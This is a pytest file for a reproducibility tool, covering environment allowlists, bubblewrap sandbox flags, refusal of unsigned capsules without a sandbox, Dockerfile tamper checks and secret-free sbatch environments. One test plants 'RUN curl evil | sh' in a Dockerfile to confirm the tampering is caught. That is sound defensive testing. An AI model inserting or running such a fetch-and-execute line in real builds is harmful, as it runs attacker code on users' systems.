"""The run environment allowlist, the sandbox's command line and policy, the Dockerfile check,
and sbatch's environment (issue 16)."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from repro.capsule.reader import read_capsule
from repro.capture.pipeline import CaptureOptions, capture
from repro.env.capsule_env import checked_dockerfile, expected_dockerfile
from repro.errors import DockerfileMismatchError, ExitCode, SandboxUnavailableError
from repro.execution.environment import Allowlist, run_environment, standard_path
from repro.execution.sandbox import BubblewrapSandbox, NoSandbox, SandboxSpec
from repro.replay.targets import TargetOptions
from repro.replay.targets.isolation import sandbox_for
from repro.scheduler.slurm import Slurm, Submission
from tests.isolation_attack import SECRETS

HOST = {
    **SECRETS,
    "LANG": "de_DE.UTF-8",
    "LC_NUMERIC": "C",
    "TZ": "Europe/Berlin",
    "HOME": "/home/alice",
    "PATH": "/home/alice/.local/bin:/usr/bin",
    "PYTHONPATH": "/home/alice/lib",
    "SSL_CERT_FILE": "/etc/ssl/certs/ca-certificates.crt",
    "HTTPS_PROXY": "http://alice:pw@proxy:3128",
    "SEED_DIR": "/data",
}


def test_a_run_gets_the_allowlist_and_nothing_else() -> None:
    env = run_environment(
        Allowlist({"OMP_NUM_THREADS": "1"}),
        home="/tmp/h",
        path=standard_path("/venv/bin"),
        variables={"SOURCE_DATE_EPOCH": "1700000000", "REPRO_POINT": "seed=1"},
        host=HOST,
    )
    assert env == {
        "LANG": "de_DE.UTF-8",
        "LC_NUMERIC": "C",
        "TZ": "Europe/Berlin",
        "SSL_CERT_FILE": "/etc/ssl/certs/ca-certificates.crt",
        "OMP_NUM_THREADS": "1",
        "HOME": "/tmp/h",
        "PATH": "/venv/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        "SOURCE_DATE_EPOCH": "1700000000",
        "REPRO_POINT": "seed=1",
    }


def test_pass_env_passes_exactly_the_named_and_warns_about_the_missing() -> None:
    allowed = Allowlist({}, ("GITHUB_TOKEN", "NOT_SET"))
    env = run_environment(allowed, home="/h", path=None, variables={}, host=HOST)
    assert env["GITHUB_TOKEN"] == SECRETS["GITHUB_TOKEN"]
    assert not set(env) & (set(SECRETS) - {"GITHUB_TOKEN"})
    assert "PATH" not in env  # a container keeps its image's PATH
    assert allowed.missing(HOST) == [
        "--pass-env NOT_SET: NOT_SET is not set here, the runs do not get it"
    ]


def test_in_a_container_host_paths_are_not_passed() -> None:
    env = run_environment(
        Allowlist(), home="/h", path=None, variables={}, host=HOST, host_paths=False
    )
    assert "SSL_CERT_FILE" not in env and env["LANG"] == "de_DE.UTF-8"


def test_bubblewrap_hides_the_host_and_binds_the_run_after(tmp_path: Path) -> None:
    work, home, venv = tmp_path / "w", tmp_path / "h", tmp_path / "venv"
    for folder in (work, home, venv):
        folder.mkdir()
    spec = SandboxSpec(work, home, (venv,), (), network=False)
    argv = BubblewrapSandbox("/usr/bin/bwrap").wrap(["/bin/sh", "-c", "x"], spec)
    assert argv[0] == "/usr/bin/bwrap" and argv[-4:] == ["--", "/bin/sh", "-c", "x"]
    for flag in ("--die-with-parent", "--new-session", "--unshare-all"):
        assert flag in argv
    assert argv[argv.index("--cap-drop") + 1] == "ALL"
    assert "--share-net" not in argv
    joined = " ".join(argv)
    assert "--ro-bind / /" in joined and "--tmpfs /tmp" in joined
    # the run's own folders are bound after /tmp is hidden, so they show through
    assert joined.index("--tmpfs /tmp") < joined.index(f"--bind {work} {work}")
    assert f"--ro-bind {venv} {venv}" in joined
    assert argv[argv.index("--chdir") + 1] == str(work)
    with_net = BubblewrapSandbox("bwrap").wrap(["true"], SandboxSpec(work, home, network=True))
    assert "--share-net" in with_net


def test_no_sandbox_leaves_the_command_as_it_is(tmp_path: Path) -> None:
    assert NoSandbox().wrap(["a", "b"], SandboxSpec(tmp_path, tmp_path)) == ["a", "b"]


@pytest.fixture
def no_bwrap(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("REPRO_BWRAP", str(tmp_path / "no-such-bwrap"))


def test_without_a_sandbox_an_untrusted_capsule_is_refused(no_bwrap: None) -> None:
    with pytest.raises(SandboxUnavailableError) as info:
        sandbox_for("local", TargetOptions())
    assert info.value.exit_code == ExitCode.INVALID_CAPSULE
    assert "--no-sandbox" in info.value.hint and "bubblewrap" in info.value.hint
    asked: list[str] = []

    def no(question: str) -> bool:
        asked.append(question)
        return False

    with pytest.raises(SandboxUnavailableError):
        sandbox_for("local", TargetOptions(confirm=no))
    assert asked and "not signed by a trusted key" in asked[0]


def test_without_a_sandbox_yes_trust_or_no_sandbox_run_it_unsandboxed_and_say_so(
    no_bwrap: None,
) -> None:
    for options in (
        TargetOptions(no_sandbox=True),
        TargetOptions(trusted=True),
        TargetOptions(confirm=lambda _q: True),
    ):
        sandbox, warnings = sandbox_for("local", options)
        assert sandbox.isolation == "none" and len(warnings) == 1, options


def test_no_sandbox_wins_even_where_bubblewrap_works() -> None:
    sandbox, warnings = sandbox_for("local", TargetOptions(no_sandbox=True))
    assert sandbox.isolation == "none" and "--no-sandbox" in warnings[0]


def test_only_the_dockerfile_repro_generates_is_built(tmp_path: Path) -> None:
    project = tmp_path / "p"
    project.mkdir()
    (project / "a.py").write_text("print('a')\n")
    (project / "apt.txt").write_text("jq\n")
    capsule = tmp_path / "c.tgz"
    capture(CaptureOptions(project=project, output=capsule, execute=False, sign=False))
    root = tmp_path / "unpacked"
    manifest = read_capsule(capsule, root).manifest
    shipped = root / manifest.environment.dockerfile
    assert shipped.read_text() == expected_dockerfile(manifest)
    assert checked_dockerfile(manifest, root) == shipped.read_text()
    shipped.chmod(0o644)
    shipped.write_text(shipped.read_text().replace("USER 1000", "RUN curl evil | sh\nUSER 1000"))
    with pytest.raises(DockerfileMismatchError) as info:
        checked_dockerfile(manifest, root)
    assert info.value.exit_code == ExitCode.INVALID_CAPSULE
    assert "differs from the one its declarations give" in info.value.message


def test_sbatch_gets_only_the_submission_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The job inherits sbatch's environment (--export=ALL): sbatch must get nothing else."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    dump = tmp_path / "env.txt"
    for tool in ("squeue", "scontrol", "scancel"):
        (bin_dir / tool).write_text("#!/bin/sh\nexit 0\n")
    (bin_dir / "sbatch").write_text(f'#!/bin/sh\necho "$@" > {dump}.args\nenv > {dump}\necho 7\n')
    for tool in bin_dir.iterdir():
        tool.chmod(tool.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    script = tmp_path / "job.sbatch"
    script.write_text("#!/bin/bash\n")
    job = Slurm().submit_array(
        Submission(script, tmp_path, [0], None, export={"PATH": "/usr/bin:/bin", "X": "1"})
    )
    assert job == "7"
    names = {line.split("=", 1)[0] for line in dump.read_text().splitlines()}
    assert not names & set(SECRETS)
    assert names <= {"PATH", "X", "PWD", "SHLVL", "_", "SLURM_CONF"}
    assert "--export=ALL" in Path(f"{dump}.args").read_text()
